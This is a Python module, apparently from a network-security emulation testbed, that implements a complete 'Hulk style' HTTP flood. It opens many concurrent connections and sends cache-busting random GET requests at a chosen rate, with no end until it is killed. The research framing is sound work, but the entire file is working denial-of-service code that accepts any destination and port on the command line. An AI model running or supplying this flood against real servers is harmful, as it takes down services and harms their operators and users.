"""A real HTTP flood (Hulk style, `002_…` Section IV), started in an attacker namespace.

Workers open a fresh connection per request from one of the attackers' addresses to one
of the ports, in turn, and ask for a page with a random query string (so no cache can
answer it), at a bounded total rate of requests a second; every answer is read to the end.

    python -m secmas.network.emulation.httpflood DST PORT[,PORT…] RPS SIZE SRC[,SRC…]
"""

from __future__ import annotations

import asyncio
import contextlib
import random
import sys
import time

WORKERS = 64
TIMEOUT = 5.0


async def request(dst: str, port: int, src: str, size: int, rng: random.Random) -> None:
    """One GET on a new connection, read to the end; errors are the flood's success."""
    reader, writer = await asyncio.open_connection(dst, port, local_addr=(src, 0))
    try:
        query = rng.getrandbits(48)
        writer.write(
            f"GET /bytes/{size}?q={query:x} HTTP/1.1\r\nHost: {dst}\r\n"
            "Cache-Control: no-cache\r\nConnection: close\r\n\r\n".encode()
        )
        await writer.drain()
        while await reader.read(65536):
            pass
    finally:
        writer.close()


async def flood(dst: str, ports: list[int], rps: float, size: int, sources: list[str]) -> None:
    """Start `rps` requests a second, at most WORKERS in flight, until killed."""
    rng = random.Random()
    slots = asyncio.Semaphore(WORKERS)
    started = time.monotonic()
    sent = 0

    async def one(src: str, port: int) -> None:
        try:
            with contextlib.suppress(OSError, TimeoutError):
                await asyncio.wait_for(request(dst, port, src, size, rng), TIMEOUT)
        finally:
            slots.release()

    tasks: set[asyncio.Task[None]] = set()
    while True:
        due = int((time.monotonic() - started) * rps)
        while sent < due:
            await slots.acquire()
            task = asyncio.ensure_future(
                one(sources[sent % len(sources)], ports[sent % len(ports)])
            )
            tasks.add(task)
            task.add_done_callback(tasks.discard)
            sent += 1
        await asyncio.sleep(0.005)


def main(argv: list[str]) -> int:
    if len(argv) != 5:
        print(__doc__, file=sys.stderr)
        return 2
    dst, rps, size = argv[0], float(argv[2]), int(argv[3])
    ports = [int(port) for port in argv[1].split(",")]
    with contextlib.suppress(KeyboardInterrupt):
        asyncio.run(flood(dst, ports, rps, size, argv[4].split(",")))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
